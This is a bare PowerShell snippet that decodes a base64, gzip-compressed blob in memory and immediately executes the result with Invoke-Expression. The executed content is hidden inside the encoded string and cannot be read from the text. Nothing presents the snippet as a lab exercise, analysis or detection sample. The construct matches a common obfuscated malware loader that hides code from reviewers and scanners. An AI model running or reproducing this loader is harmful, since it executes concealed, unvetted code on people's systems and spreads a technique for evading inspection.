$s = New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAACA3NMSdH1yU9OzHEvyi8t8E3NTUotUtAFcxQcU3Iz8zKLS4oSS/KLihV0obKeocFBAFRZ9m43AAAA'))), [IO.Compression.CompressionMode]::Decompress)
$t = (New-Object IO.StreamReader($s)).ReadToEnd()
iex $t
